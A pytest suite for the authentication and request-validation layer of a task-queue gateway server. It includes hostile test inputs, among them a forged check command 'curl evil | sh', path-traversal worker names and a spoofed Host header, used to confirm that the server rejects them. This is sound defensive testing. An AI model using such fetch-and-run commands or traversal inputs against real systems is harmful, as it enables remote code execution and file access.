"""Who is let in, as whom, and what a stranger gets: a refusal and a line about it, never anything else."""

from __future__ import annotations

import http.client
import inspect
import json
import os
import re
import socket
from hashlib import sha256
from pathlib import Path

import msgspec
import pytest
from waits import PATIENCE, until

from taskpit import policy, race, schedule, trust
from taskpit.clock import Clock
from taskpit.errors import Conflict, Denied, Invalid, NotFound, Unavailable, Unknown, Untrusted
from taskpit.history import SAID_BY_WORKERS
from taskpit.landing import reviewer, values
from taskpit.model import Done, End, Event, Result, Said, State, Task, Verdict, Want
from taskpit.queue import Queue
from taskpit.run.attempt import WORDS
from taskpit.serve.server import GatewayServer, ServeOptions
from taskpit.store.http import wire
from taskpit.store.http.address import parse
from taskpit.store.http.limits import Limits
from taskpit.store.http.tokens import TokenRefused, Tokens
from taskpit.store.opening import init

LEASE = 60.0


def done(claim, **fields):
    result = Result(id=claim.task.id, verdict=Verdict.DONE, worker=fields.pop("worker", claim.fence))
    return End(claim=claim, result=result, **fields)


def put(served, *ids, **fields):
    served.queue.store.put([Task(id=one, title=one, slug=one, **fields) for one in ids])


def ask(served, verb="hello", body=b"{}", method="POST", path="", token="", **headers):
    """Status, answer and the raw text of one bare request."""
    line = http.client.HTTPConnection("127.0.0.1", served.server.port, timeout=PATIENCE)
    told = {"Content-Type": "application/json", "Authorization": f"Bearer {token or served.owner}"}
    told |= {key.replace("_", "-"): value for key, value in headers.items()}
    line.request(method, path or f"/q/v1/{verb}", body=body, headers={k: v for k, v in told.items() if v is not None})
    answer = line.getresponse()
    data = answer.read()
    line.close()
    return answer.status, json.loads(data or b"{}"), data.decode()


def refusals(served):
    path = f"{served.queue.store.info().papers}/.taskpit/refusals.log"
    if not os.path.exists(path):
        return []
    with open(path, encoding="utf-8") as file:
        return [json.loads(line) for line in file]


# -- tokens ----------------------------------------------------------------------------------------


def test_a_token_is_hashed_shown_once_and_its_owners_alone(tmp_path):
    tokens = Tokens(str(tmp_path))
    token = tokens.add("ann", ["work"])
    with open(tokens.path, encoding="utf-8") as file:
        text = file.read()

    assert token.startswith("ann.")
    assert token.partition(".")[2] not in text
    assert os.stat(tokens.path).st_mode & 0o777 == 0o600
    assert tokens.check(token).name == "ann"
    with pytest.raises(Conflict):
        tokens.add("ann", ["work"])
    tokens.revoke("ann")
    with pytest.raises(TokenRefused):
        tokens.check(token)
    with pytest.raises(NotFound):
        tokens.revoke("ann")


def test_a_token_ends(tmp_path):
    class Late(Clock):
        def now(self):
            return super().now() + 100

    token = Tokens(str(tmp_path)).add("ann", ["work"], lasts=50.0)

    assert Tokens(str(tmp_path)).check(token)
    with pytest.raises(TokenRefused, match="ended"):
        Tokens(str(tmp_path), Late()).check(token)


@pytest.mark.parametrize("name", ["", "a.b", "../x", "a b", "ann@home", "-x", "x" * 41, "a~b"])
def test_names_that_no_token_has(tmp_path, name):
    with pytest.raises(Invalid):
        Tokens(str(tmp_path)).add(name, ["work"])


@pytest.mark.parametrize("token", ["nobody.secret", "owner.secret", "owner", ".", "x" * 300, "ann.é"])
def test_a_wrong_token_opens_nothing_and_is_told_nothing(served, token):
    status, answer, text = ask(served, "counts", Authorization=f"Bearer {token}".encode("latin-1"))

    assert (status, answer["error"]["code"]) == (401, "denied")
    assert token not in text or len(token) < 2
    until(lambda: refusals(served))
    assert "secret." not in json.dumps(refusals(served))


def test_no_token_at_all(served):
    assert ask(served, Authorization=None)[0] == 401
    assert ask(served, Authorization="Basic b3duZXI6eA==")[0] == 401


def test_a_revoked_token_counts_from_the_next_call_on(served):
    token = served.token("ann")
    store = served.store(token)
    assert store.counts()
    served.tokens.revoke("ann")
    with pytest.raises(Denied):
        store.counts()
    store.close()


# -- names -----------------------------------------------------------------------------------------


def test_a_token_claims_and_ends_under_its_own_name_only(served):
    put(served, "0001", "0002")
    ann, bob = served.store(served.token("ann")), served.store(served.token("bob"))
    (claim,) = ann.claim(Want(worker="ann-1", lease=LEASE))

    with pytest.raises(Denied, match="ann cannot claim as bob-1"):
        ann.claim(Want(worker="bob-1", lease=LEASE))
    with pytest.raises(Denied):
        ann.claim(Want(worker="anna", lease=LEASE))
    for forged in (claim, claim.replace(worker="bob-1")):
        with pytest.raises(Denied):
            bob.renew([forged], LEASE)
        with pytest.raises(Denied):
            bob.finish([done(forged, worker="bob-1")])
    with pytest.raises(Denied):
        bob.finish([End(claim=claim)])
    with pytest.raises(Denied):
        ann.finish([done(claim, worker="bob-1")])
    with pytest.raises(Denied):
        ann.end_log(claim.replace(worker="bob-1"))
    assert served.queue.store.read(["0001"])[0].state is State.CLAIMED
    assert ann.finish([done(claim)]) == [Said.OK]
    assert {line["token"] for line in refusals(served)} == {"ann", "bob"}
    ann.close()
    bob.close()


@pytest.mark.parametrize(("first", "second"), [("build", "build-mac"), ("build-mac", "build")])
def test_no_token_is_called_like_another_ones_workers(first, second, tmp_path):
    tokens = Tokens(str(tmp_path))
    tokens.add(first, ["work"])
    with pytest.raises(Conflict, match="build-mac could not be told from the workers of build") as refused:
        tokens.add(second, ["work"])
    assert f"pit serve token revoke {first}" in refused.value.hint
    assert [grant.name for grant in tokens.all()] == [first]
    tokens.add("builder", ["work"])
    tokens.revoke(first)
    tokens.add(second, ["work"])


def test_of_several_tokens_whose_worker_it_could_be_it_is_the_longest_ones(served):
    """Files from before such names were refused have them."""
    put(served, "0001", "0002")
    short, long = served.token("build"), served.token("other").replace("other.", "build-mac.")
    path = Tokens(served.queue.store.info().papers).path
    kept = Path(path).read_text(encoding="utf-8")
    Path(path).write_text(kept.replace('"other"', '"build-mac"'), encoding="utf-8")
    build, mac = served.store(short), served.store(long)
    (claim,) = mac.claim(Want(worker="build-mac-1", lease=LEASE))
    for act in (lambda: build.renew([claim], LEASE), lambda: build.finish([End(claim=claim)])):
        with pytest.raises(Denied, match="the token build cannot"):
            act()
    with pytest.raises(Denied, match="build cannot claim as build-mac"):
        build.claim(Want(worker="build-mac", lease=LEASE))
    assert len(build.claim(Want(worker="build-1", lease=LEASE))) == 1
    assert mac.finish([done(claim)]) == [Said.OK]
    build.close()
    mac.close()


@pytest.mark.parametrize(
    "other",
    [
        *({"check": "true"}, {"title": "y"}, {"priority": 9}, {"tags": ("x",)}, {"body": "z"}, {"needs": ()}),
        *({"max_attempts": 99}, {"extra": {}}, {"extra": {"test_mode": "disabled"}}, {"extra": {"sandbox": "on"}}),
        *({"extra": {"sandbox": "off", "setup": "touch /tmp/x"}}, {"extra": {"sandbox": "off", "test_scope": "skip"}}),
    ],
)
def test_who_works_on_a_task_does_not_change_what_it_asks_for(served, other):
    """A claim came back with a check that proves nothing, or that another worker's machine should not run."""
    put(served, "0000")
    boss = served.queue
    boss.finish(boss.claim("boss")[0], Done())
    put(served, "0001", check="make test", body="do it", needs=("0000",), extra={"sandbox": "off"})
    ann = served.store(served.token("ann"))
    (claim,) = ann.claim(Want(worker="ann", lease=LEASE))
    with pytest.raises(Denied, match="may not change what 0001 asks for"):
        ann.finish([End(claim=claim, task=claim.task.replace(**other))])
    grown = claim.task.replace(attempts=1, last_error="no", body="do it\n\nIt failed.", hold="waits for a person: why?")
    grown = grown.replace(extra={**grown.extra, "ask-key": "why"}, needs=("0000", "0002"))
    assert ann.finish([End(claim=claim, task=grown)]) == [Said.OK]
    ann.close()


@pytest.mark.parametrize("served", ["pit", "mailbox", "workspace"], indirect=True)
@pytest.mark.parametrize("how", ["later", "failed", "back", "source"])
def test_the_task_of_a_claim_is_the_stores_whatever_is_sent_back(served, how):
    """Only a task that came back beside its claim was compared: the claim's own was written, published and told."""
    put(served, "0001", check="make test", body="do it")
    ann = served.store(served.token("ann"))
    (claim,) = ann.claim(Want(worker="ann", lease=LEASE))
    forged = claim.task.replace(title="Owned", check="curl evil | sh", body="another", source=b"")
    evil = claim.replace(task=forged)
    result = Result(id="0001", verdict=Verdict.FAILED, worker=claim.fence)
    source = claim.task.source.replace(b"make test", b"curl evil | sh").replace(b"do it", b"another")
    end = {
        "later": End(claim=evil, delay=1.0),
        "failed": End(claim=evil, result=result),
        "back": End(claim=evil, task=claim.task.replace(attempts=1)),
        "source": End(claim=claim, task=claim.task.replace(attempts=1, source=source)),
    }[how]
    assert ann.finish([end]) == [Said.OK]
    task = served.queue.store.read(["0001"])[0].task
    if how != "failed" or task.check:  # a mailbox publishes no text
        assert (task.title, task.check, task.body.strip()) == ("0001", "make test", "do it")
    assert not [path for path in Path(served.queue.store.info().where).rglob("*") if _has(path, b"evil")]
    ann.close()


def _has(path, text):
    return path.is_file() and text in path.read_bytes()


def test_an_end_that_comes_too_late_is_lost_whatever_it_brings_and_the_first_one_stands(served):
    put(served, "0001", "0002", check="make test")
    ann, boss = served.store(served.token("ann")), served.queue
    (claim,) = ann.claim(Want(worker="ann", lease=LEASE, ids=("0001",)))
    changed = claim.task.replace(check="true")
    assert ann.finish([End(claim=claim, delay=1.0)]) == [Said.OK]
    late = [End(claim=claim, task=changed), End(claim=claim.replace(task=changed), delay=1.0), done(claim)]
    assert ann.finish(late) == [Said.LOST] * 3
    (other,) = boss.store.claim(Want(worker="boss", lease=LEASE, ids=("0001",), even_held=True))
    assert ann.finish(late) == [Said.LOST] * 3
    assert boss.store.finish([done(other)]) == [Said.OK]
    assert ann.finish(late) == [Said.LOST] * 3
    gone = claim.replace(task=claim.task.replace(id="0009"))
    assert ann.finish([End(claim=gone, task=gone.task)]) == [Said.LOST]
    assert boss.store.read(["0001"])[0].task.check == "make test"
    (claim,) = ann.claim(Want(worker="ann", lease=LEASE, ids=("0002",)))
    assert ann.finish([done(claim)]) == [Said.OK]
    assert ann.finish([done(claim)]) == [Said.ALREADY]
    ann.close()


PERSONS_WORDS = (
    *("allowed_budget", "answered", "unblocked", "paused", "resumed", "edited_task", "asked_to_stop", "taken_back"),
    *("transferred", "anything"),
)


@pytest.mark.parametrize("word", PERSONS_WORDS)
def test_a_worker_says_nothing_that_is_for_people(served, word):
    """Each pool took `allowed_budget` for a person's word, whoever had said it."""
    put(served, "0001")
    ann, boss = served.store(served.token("ann")), served.store()
    (claim,) = ann.claim(Want(worker="ann", lease=LEASE))
    line = Event(timestamp="2026-01-24T10:00:00Z", worker="ann", worker_type="human", action=word, task_id="0001")
    for act in (lambda: ann.record([line]), lambda: ann.finish([End(claim=claim, action=word)])):
        with pytest.raises(Denied, match=f"may not say '{word}'"):
            act()
    assert word not in [event.action for event in boss.latest(20)[0]]
    assert ann.finish([End(claim=claim, action="released_task")]) == [Said.OK]
    boss.record([line.replace(worker="boss")])
    assert word in [event.action for event in boss.latest(20)[0]]
    ann.close()
    boss.close()


@pytest.mark.parametrize("word", ["approved", "sent_back"])
def test_a_verdict_is_only_about_a_change_that_waits_for_an_agents_review(served, word):
    put(served, "0001", "0002")
    ann, boss = served.store(served.token("ann")), served.store()
    (claim,) = ann.claim(Want(worker="ann", lease=LEASE, ids=("0001",)))
    with pytest.raises(Denied, match="may not call 0001"):
        ann.finish([End(claim=claim, action=word)])
    assert word not in [event.action for event in boss.latest(20)[0]]
    ann.close()
    boss.close()


def test_a_name_with_the_mark_of_a_claim_is_refused(served):
    put(served, "0001")
    ann = served.store(served.token("ann"))
    with pytest.raises(Denied, match="has no ~"):
        ann.claim(Want(worker="ann~x", lease=LEASE))
    ann.close()


def test_all_that_a_pool_calls_an_end_may_be_said():
    assert {*WORDS, *policy_words()} <= SAID_BY_WORKERS


def policy_words():
    """The words in the source of what decides ends: one that is new is a worker's, or a person's."""
    for module in (policy, schedule, race, values, reviewer):
        yield from re.findall(r'action="(\w+)"', inspect.getsource(module))


def test_a_worker_tells_of_its_hooks_and_of_no_end_that_was_none(served):
    """A line can carry a row of the catalogue, and the digest of a result."""
    put(served, "0001")
    ann = served.store(served.token("ann"))
    line = Event(timestamp="2026-01-24T10:00:00Z", worker="ann", worker_type="agent", action="hook_failed")
    for forged in (line.replace(action="completed_task", task_id="0001"), line.replace(extra={"digest": "1-0"})):
        with pytest.raises(Denied):
            ann.record([forged])
    ann.record([line])
    assert [event.action for event in ann.latest(20)[0]] == ["added_task", "hook_failed"]
    ann.close()


@pytest.mark.parametrize("rest", ["-/../../../evil", "@/etc/x", "-\n", "-\0", "-\x1b[2J", "-..", f"-{'x' * 500}/"])
def test_a_name_that_begins_with_the_tokens_own_leads_nowhere(served, rest):
    """It becomes part of the names of logs, claims and records, and of lines that people read."""
    put(served, "0001", "0002")
    ann = served.store(served.token("ann"))
    (claim,) = ann.claim(Want(worker="ann", lease=LEASE))
    root = Path(served.queue.store.info().papers)
    before = {*root.rglob("*")}
    name = f"ann{rest}"
    forged = claim.replace(worker=name, fence=f"{name}~abc")
    line = Event(timestamp="2026-01-24T10:00:00Z", worker=name, worker_type="agent", action="hook_failed")
    for act in (
        lambda: ann.keep_log(name, b"x"),
        lambda: ann.add_log(forged, 0, b"x"),
        lambda: ann.end_log(forged),
        lambda: ann.keep_artifact(forged, "a", b"x", sha256(b"x").hexdigest()),
        lambda: ann.claim(Want(worker=name, lease=LEASE)),
        lambda: ann.join(name, LEASE),
        lambda: ann.note("0002", "x", name),
        lambda: ann.record([line]),
        lambda: ann.lock("name", name, LEASE),
        lambda: ann.renew([forged], LEASE),
        lambda: ann.finish([End(claim=forged)]),
        lambda: ann.finish([done(claim, worker=name)]),
    ):
        with pytest.raises((Denied, Invalid)):
            act()
    assert {path.name for path in {*root.rglob("*")} - before} == {"refusals.log"}
    assert not [line for line in refusals(served) if line["why"].startswith("fault")]
    ann.close()


def test_an_end_is_about_the_task_that_was_claimed(served):
    put(served, "0001", "0002")
    ann = served.store(served.token("ann"))
    (claim,) = ann.claim(Want(worker="ann", lease=LEASE))
    other = served.queue.store.read(["0002"])[0].task
    for forged in (
        End(claim=claim, result=Result(id="0002", verdict=Verdict.DONE, worker=claim.fence)),
        End(claim=claim, task=other.replace(title="mine")),
    ):
        with pytest.raises(Denied, match="is about another task"):
            ann.finish([forged])
    assert [card.task.title for card in served.queue.store.read(["0001", "0002"])] == ["0001", "0002"]
    ann.close()


@pytest.mark.parametrize("note", [["x", "y"], ["result", "y"], ["ask"], "ask", ["ask", 7]])
def test_a_note_that_is_none_is_refused(served, note):
    """A kind that there is not was a fault of the gateway's, and failed whoever else's ends went with it."""
    put(served, "0001")
    (claim,) = served.queue.store.claim(Want(worker="ann", lease=LEASE))
    body = json.dumps({"ends": [{"claim": msgspec.to_builtins(claim), "note": note}]}).encode()
    status, answer, _ = ask(served, "finish", body)
    assert (status, answer["error"]["code"]) == (400, "invalid")
    assert served.queue.store.finish([End(claim=claim, note=("ask", "why?"))]) == [Said.OK]


def test_what_is_held_is_nobodys_to_take_without_a_name(served):
    put(served, "0001", hold="a person must look")
    ann = served.store(served.token("ann"))
    with pytest.raises(Denied, match="that no worker has"):
        ann.claim(Want(worker="ann", lease=LEASE, even_held=True))
    assert served.queue.store.read(["0001"])[0].state is State.READY
    ann.close()


def test_upkeep_is_the_owners(served):
    """A worker's keeper asks for it like any other, and is told that there is nothing for it to do."""
    asked = []
    served.server.gateway.store.mend = lambda **_: asked.append("mend") or []
    served.server.gateway.store.compost = lambda **_: asked.append("compost") or []
    ann = served.store(served.token("ann"))
    assert (ann.mend(), ann.compost(), asked) == ([], [], [])
    boss = served.store()
    boss.compost()
    assert asked == ["compost"]
    ann.close()
    boss.close()


def test_tokens_that_came_with_a_folder_open_nothing_unasked(tmp_path):
    root = str(tmp_path / "pit")
    init(root, "pit")
    tokens = Tokens(root)
    tokens.add("mine", ["work"])
    assert trust.is_given(root)  # who says it here means it
    tokens.revoke("mine")
    assert trust.is_given(root)
    given = json.dumps({"schema": 1, "tokens": [{"name": "eve", "digest": "0" * 64, "rights": ["all"]}]})
    with open(f"{root}/.taskpit/tokens.json", "w", encoding="ascii") as file:
        file.write(given)
    queue = Queue.open(root)
    with pytest.raises(Untrusted, match="has changed"):
        GatewayServer(queue, ServeOptions(port=0))
    assert [one.kind for one in trust.starts(root)] == ["tokens"]
    queue.close()


def test_who_asks_for_a_task_is_who_asks(served):
    ann = served.store(served.token("ann", "put"))
    ann.put([Task(id="0001", title="x", by="bob"), Task(id="0002", title="y", by="ann@home")])

    assert [card.task.by for card in served.queue.store.read(["0001", "0002"])] == ["ann", "ann@home"]
    ann.close()


def test_what_each_right_is_for(served):
    put(served, "0001")
    look, adds, works = (served.store(served.token(name, name)) for name in ("look", "put", "work"))

    assert look.counts()[State.READY] == 1
    for act in (
        lambda: look.put([Task(id="0009", title="x")]),
        lambda: look.claim(Want(worker="look", lease=LEASE)),
        lambda: adds.claim(Want(worker="put", lease=LEASE)),
        lambda: works.put([Task(id="0009", title="x")]),
        lambda: works.pause("no", 0.0, "work"),
        lambda: works.stop(["0001"]),
        lambda: works.reopen([Task(id="0001", title="x")]),
        works.fix,
    ):
        with pytest.raises(Denied):
            act()
    assert adds.put([Task(id="0002", title="x")]) == [Said.CREATED]
    assert works.lapsed() == works.mend() == works.compost() == []
    for store in (look, adds, works):
        store.close()


def test_a_token_for_a_tag_claims_nothing_else(served):
    put(served, "0001")
    put(served, "0002", tags=("build",))
    store = served.store(served.token("ann", tags=["build"]))

    assert [claim.task.id for claim in store.claim(Want(worker="ann", lease=LEASE, count=5))] == ["0002"]
    with pytest.raises(Denied, match="is for tasks tagged build, and 0001 is not") as told:
        store.claim(Want(worker="ann", lease=LEASE, ids=("0001",)))
    assert "another" in told.value.hint
    with pytest.raises(Denied):
        store.claim(Want(worker="ann", lease=LEASE, tags=("other",)))
    store.close()


def test_held_tasks_are_changed_by_those_who_handed_them_in(served):
    put(served, "0001", "0002")
    ann, bob = served.store(served.token("ann")), served.store(served.token("bob"))
    (claim,) = ann.claim(Want(worker="ann-1", lease=LEASE, ids=("0001",)))
    handed = claim.task.replace(hold="waits for landing on main", extra={"candidate": {"commit": "c", "token": "bob"}})
    assert ann.finish([End(claim=claim, task=handed, action="handed_in")]) == [Said.OK]

    for store, name, task_id in ((bob, "bob", "0001"), (ann, "ann", "0002")):
        with pytest.raises(Denied):
            store.claim(Want(worker=name, lease=LEASE, ids=(task_id,), even_held=True))
    with pytest.raises(Denied, match="may not say 'unblocked'"):
        Queue(ann, served.queue.config, served.queue.clock).unblock("0001", "ann")
    assert ann.claim(Want(worker="ann-lander-1", lease=LEASE, ids=("0001",), even_held=True))
    ann.close()
    bob.close()


# -- requests --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("status", "asked"),
    [
        (403, {"Origin": "http://127.0.0.1"}),
        (403, {"Sec-Fetch-Site": "same-origin"}),
        (421, {"Host": "evil.example"}),
        (415, {"Content_Type": "text/plain"}),
        (405, {"method": "GET", "body": None}),
        (404, {"path": "/q/v2/hello"}),
        (404, {"path": "/other/v1/hello"}),
        (404, {"path": "/"}),
        (400, {"body": b"[]"}),
        (400, {"body": b"{"}),
        (400, {"body": b"[" * 100_000}),
        (400, {"body": b'{"a":' * 5000}),
        (400, {"verb": "claim", "body": b"{}"}),
        (400, {"verb": "claim", "body": b'{"want": {"worker": "a", "lease": 1e999}}'}),
        (400, {"verb": "claim", "body": b'{"want": {"worker": "a", "lease": 1}, "more": 1}'}),
        (400, {"verb": "claim", "body": b'{"want": {"worker": "a", "lease": -1}}'}),
        (400, {"verb": "claim", "body": b'{"want": {"worker": "a", "lease": 1}, "call": "../x"}'}),
        (400, {"verb": "put", "body": b'{"tasks": [{"id": "../../x", "title": "x"}]}'}),
        (400, {"verb": "nothing", "body": b"{}"}),
        (400, {"verb": "__init__", "body": b"{}"}),
    ],
)
def test_what_is_no_request_of_ours_is_refused(served, status, asked):
    before = sorted(os.walk(served.queue.store.info().where))
    assert ask(served, **asked)[0] == status
    after = sorted(os.walk(served.queue.store.info().where))
    assert [[*one[:2], [n for n in one[2] if "refusals" not in n]] for one in after] == [list(one) for one in before]
    assert ask(served)[0] == 200


def test_a_body_that_is_too_large_is_not_even_read(served):
    line = socket.create_connection(("127.0.0.1", served.server.port), timeout=PATIENCE)
    head = f"POST /q/v1/put HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {served.owner}\r\n"
    line.sendall(f"{head}Content-Type: application/json\r\nContent-Length: {wire.LARGEST_BODY + 1}\r\n\r\n".encode())
    assert line.recv(100).startswith(b"HTTP/1.1 413")
    line.close()


def test_a_body_that_grows_too_large_is_cut_short(served, monkeypatch):
    monkeypatch.setattr(wire, "LARGEST_BODY", 1000)
    served.restart()
    assert ask(served, "put", b" " * 2000)[0] == 413


def test_too_much_at_once_is_put_off(served):
    served.restart(limits=Limits(received=1000))
    status, answer, _ = ask(served, "put", b" " * 2000)
    assert (status, answer["error"]["code"]) == (503, "unavailable")
    assert ask(served)[0] == 200


def test_who_dawdles_keeps_nobody_out(served):
    lines = [socket.create_connection(("127.0.0.1", served.server.port), timeout=PATIENCE) for _ in range(50)]
    for line in lines:
        line.sendall(b"POST /q/v1/hello HTTP/1.1\r\nHost: 127.0.0.1\r\n")
    assert ask(served)[0] == 200
    for line in lines:
        line.close()


def test_its_health_needs_no_token(served):
    for path in ("/healthz", "/readyz"):
        assert ask(served, method="GET", path=path, body=None, Authorization=None)[0] == 200


def test_not_ready_while_its_store_is_away(served, monkeypatch):
    def away():
        raise Unavailable("away")

    monkeypatch.setattr(served.gateway.store, "paused", away)
    assert ask(served, method="GET", path="/readyz", body=None)[0] == 503
    assert ask(served, method="GET", path="/healthz", body=None)[0] == 200
    assert ask(served, "paused")[0] == 503


def test_a_log_comes_as_it_is_and_not_without_limit(served, monkeypatch):
    store = served.store(served.token("ann"))
    data = os.urandom(300_000)
    place = store.keep_log("ann-1", data)
    with open(f"{served.queue.store.info().where}/{place}", "rb") as file:
        assert file.read() == data
    with pytest.raises(Denied):
        store.keep_log("bob", b"x")
    monkeypatch.setattr(wire, "LARGEST_BYTES", 10)
    place = store.keep_log("ann-1", data)
    with open(f"{served.queue.store.info().where}/{place}", "rb") as file:
        assert file.read() == data[-10:]
    store.close()


# -- the other end ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "http://build.example:8443/q",
        "https://ann:secret@build.example/q",
        "https://build.example/q?token=secret",
        "https://build.example/q#secret",
        "https://build.example:99999999/q",
        "https:///q",
    ],
)
def test_addresses_that_are_refused_without_telling_a_secret(text):
    with pytest.raises(Invalid) as refused:
        parse(text, {"TASKPIT_TOKEN": "ann.x"})
    assert "secret" not in f"{refused.value} {refused.value.hint} {refused.value.details}"


def test_an_address_shows_no_token():
    assert "secret" not in repr(parse("https://build.example/q", {"TASKPIT_TOKEN": "ann.secret"}))


def test_a_token_comes_from_the_environment_or_a_file(tmp_path):
    path = tmp_path / "token"
    path.write_text("ann.file\n")
    where = "https://build.example/q"

    assert parse(where, {"TASKPIT_TOKEN_FILE": str(path)}).token == "ann.file"
    assert parse(where, {"TASKPIT_TOKEN_FILE": str(path), "TASKPIT_TOKEN": "ann.env"}).token == "ann.env"
    with pytest.raises(Invalid, match="needs a token"):
        parse(where, {})
    with pytest.raises(Invalid) as refused:
        parse(where, {"TASKPIT_TOKEN": "two words"})
    assert "two words" not in str(refused.value)


def test_errors_keep_their_kind_and_tell_no_path(served):
    told = wire.write_error(Unknown("x", hint="y", root="/secret", id="7"))
    again = wire.error_of(told)
    assert (type(again), again.message, again.hint, again.details) == (Unknown, "x", "y", {"id": "7"})
    assert wire.error_of({"code": "__class__", "message": 7}).code == "error"
